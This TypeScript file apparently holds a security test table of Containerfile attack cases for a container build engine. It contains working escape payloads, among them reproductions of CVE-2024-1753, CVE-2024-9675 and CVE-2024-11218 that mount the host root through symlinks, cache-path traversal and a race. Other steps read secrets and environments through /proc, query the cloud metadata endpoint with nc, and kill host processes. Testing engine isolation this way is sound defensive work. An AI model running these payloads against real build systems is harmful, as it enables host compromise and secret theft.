/** Containerfiles that are traps: steps that look around, and instructions of which an engine shows more than it should. */
import type { AttackClass } from "../attack.ts";

/** A Containerfile, or a part of one. `SECRET` in it is the operator's file, `BAIT` the folder of the lab. */
export interface ContainerfileAttack {
  readonly name: string;
  readonly class: AttackClass;
  /** A shell script of one line that a step runs; these run one after the other in one build. */
  readonly step?: string;
  /** Instructions after a stage `base` that has busybox. They are a separate build. */
  readonly lines?: string;
  /** Links in the context: path and target. */
  readonly links?: Readonly<Record<string, string>>;
  /** Shell on the host: exit 0 is harm. Where absent, the secret or a line with `OWNED` in the log. */
  readonly harm?: string;
}

function step(name: string, script: string, harm?: string): ContainerfileAttack {
  return { name: `a build step ${name}`, class: "builds", step: script, harm };
}

function build(
  name: string,
  lines: string,
  more: Pick<ContainerfileAttack, "links"> = {},
): ContainerfileAttack {
  return { name: `a build ${name}`, class: "builds", lines, ...more };
}

const SHOW = "cat /mSECRET; cat /mBAIT/home/identity.enc";

/** Puts a folder and a link to the root in turn at one place of a cache. The link comes last, for an engine that runs stages one by one. */
const SWAP =
  "i=0; while [ $i -lt 12 ]; do mkdir /c/l; sleep 0.05; rmdir /c/l; ln -s / /c/l; sleep 0.2; i=$((i + 1)); [ $i -eq 12 ] || rm /c/l; done";

/** The table. */
export const CONTAINERFILES: readonly ContainerfileAttack[] = [
  build(
    "mounts the root by a link in another stage (CVE-2024-1753)",
    `RUN ln -s / /root_of_host\nFROM base\nRUN --mount=type=bind,rw,from=base,source=/root_of_host,target=/m ${SHOW}\n`,
  ),
  build(
    "mounts the root by a link in its context",
    `RUN --mount=type=bind,source=out,target=/m ${SHOW}\n`,
    { links: { out: "/" } },
  ),
  build(
    "keeps its cache above the cache (CVE-2024-9675)",
    `RUN --mount=type=cache,id=../../../../../../../../..,target=/m ${SHOW}\n`,
  ),
  build(
    "mounts what another stage, at the same time, makes a link to the root (CVE-2024-11218)",
    `FROM base AS swap\nRUN --mount=type=cache,id=race,target=/c ${SWAP}\nFROM base\n` +
      `RUN --mount=type=cache,id=race/l,target=/m ${SHOW}; sleep 1\n`.repeat(4) +
      `COPY --from=swap /bin/busybox /x\nRUN --mount=type=cache,id=race/l,target=/m ${SHOW}; sleep 1\n`,
  ),
  step("reads files through the roots of other processes", "cat /proc/[0-9]*/rootSECRET"),
  step("reads files through the folders of other processes", "cat /proc/[0-9]*/cwd/SECRET"),
  step("reads the environment of other processes", "cat /proc/[0-9]*/environ"),
  step("reads the words of other processes", "cat /proc/[0-9]*/cmdline"),
  step(
    "makes the device of the kernel's messages",
    `mknod /messages c 1 11 && [ -n "$(timeout 2 head -c 10 /messages)" ] && echo OWNED`,
  ),
  step("mounts memory", "mkdir -p /m1 && mount -t tmpfs x /m1 && echo OWNED"),
  step("mounts the kernel's processes", "mkdir /m2 && mount -t proc x /m2 && echo OWNED"),
  step("mounts a folder over another", "mkdir /m3 && mount --bind /bin /m3 && echo OWNED"),
  step(
    "takes a mount away",
    "mkdir -p /m1; mount -t tmpfs x /m1 2>/dev/null; umount /m1 && echo OWNED",
  ),
  step("makes a mount writable", "mount -o remount,rw /proc && echo OWNED"),
  step(
    "mounts the kernel's interpreters",
    "mkdir /m4 && mount -t binfmt_misc x /m4 && [ -e /m4/register ] && echo OWNED",
  ),
  step("makes a mount namespace", `unshare -m /bin/sh -c 'mount -t tmpfs x /bin' && echo OWNED`),
  step(
    "asks for the metadata of the machine",
    "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | timeout 5 nc 169.254.169.254 80",
  ),
  step(
    "asks a server of the machine",
    "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | timeout 5 nc 127.0.0.1 7001",
  ),
  step(
    "leaves a process behind",
    `(setsid /bin/sh -c 'sleep 300; : ct-outlives-build BAIT' >/dev/null 2>&1 &); sleep 1`,
    `cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' ' | grep -q "[c]t-outlives-build $BAIT"`,
  ),
  step(
    "kills a process of the machine",
    "for p in /proc/[0-9]*; do tr '\\0' ' ' <$p/cmdline | grep -q '[c]t-build-victim' && kill -s KILL ${p#/proc/} && echo OWNED; done",
  ),
];
